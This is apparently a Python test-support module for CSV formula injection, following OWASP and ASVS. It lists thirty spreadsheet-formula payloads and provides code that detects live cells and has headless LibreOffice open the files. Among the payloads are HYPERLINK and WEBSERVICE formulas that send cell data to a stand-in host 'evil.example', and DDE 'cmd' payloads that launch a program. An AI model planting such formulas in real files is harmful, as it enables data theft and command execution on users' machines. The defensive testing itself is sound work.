"""Thirty texts that some spreadsheet would run, and readers that find what lives in a file.

After OWASP, "CSV Injection", and ASVS 5.0, 1.2.10; the readers split at commas, semicolons or
tabs, as a spreadsheet does by the country it is set to.
"""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
import unicodedata
from io import StringIO
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Sequence
    from pathlib import Path

ALIVE = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "  =1+1",
    "\u00a0=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    '"=1+1"',
    '=HYPERLINK("http://evil.example?"&A1,"Look")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\uff1d1+1",  # full width
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    "\ufe661+1",  # small
    "name;=1+1",
    'name";"=1+1',
    "name;\t =1+1;+2+2",
    "name\t=1+1",
    "name\n=1+1",
    "name\r\n@SUM(A1)",
)
SEPARATORS = {"comma": ",", "semicolon": ";", "tab": "\t"}
NUMBER = re.compile(r"[+-]?[\d.]+(?:[eE][+-]?\d+)?")
EMPTIED = re.compile(r'["\s\u200b\ufeff\x00-\x1f]+')


def live_cells(content: bytes, separator: str) -> list[str]:
    """Return the cells that a spreadsheet would calculate, quotes read as spreadsheets do."""
    text = content.decode("utf-8-sig")
    cells = [one for row in csv.reader(StringIO(text, None), delimiter=separator) for one in row]
    return [one for one in cells if _acts(one)]


def _acts(cell: str) -> bool:
    found = unicodedata.normalize("NFKC", EMPTIED.sub("", cell))
    return found[:1] in {"=", "+", "-", "@"} and not NUMBER.fullmatch(found)


def office() -> str:
    """Return the program LibreOffice is started with; empty where it is not installed."""
    return shutil.which("soffice") or shutil.which("libreoffice") or ""


def opened(files: Sequence[Path], reader: str, folder: Path) -> dict[str, list[tuple[str, object]]]:
    """Let LibreOffice Calc open files; return the kind and value of every cell by file.

    Parameters
    ----------
    reader
        Name of its import filter, with its settings; formulas in CSV are to be calculated.
    """
    from openpyxl import load_workbook

    out = folder / "opened"
    subprocess.run(
        [
            *(office(), "--headless", "--norestore"),
            f"-env:UserInstallation={(folder / 'profile').as_uri()}",
            *("--convert-to", "xlsx:Calc MS Excel 2007 XML", f"--infilter={reader}"),
            *("--outdir", str(out), *map(str, files)),
        ],
        capture_output=True, check=True, timeout=240,
    )  # fmt: skip
    books = {one.name: load_workbook(out / f"{one.stem}.xlsx") for one in files}
    return {
        name: [
            (str(cell.data_type), cell.value)
            for sheet in book
            for row in sheet.rows
            for cell in row
            if cell.value is not None
        ]
        for name, book in books.items()
    }


def csv_reader(separator: str) -> str:
    """Settings of the import of CSV: UTF-8, numbers recognised, formulas calculated."""
    return f"CSV:{ord(separator)},34,76,1,,0,false,true,false,false,false,0,true"
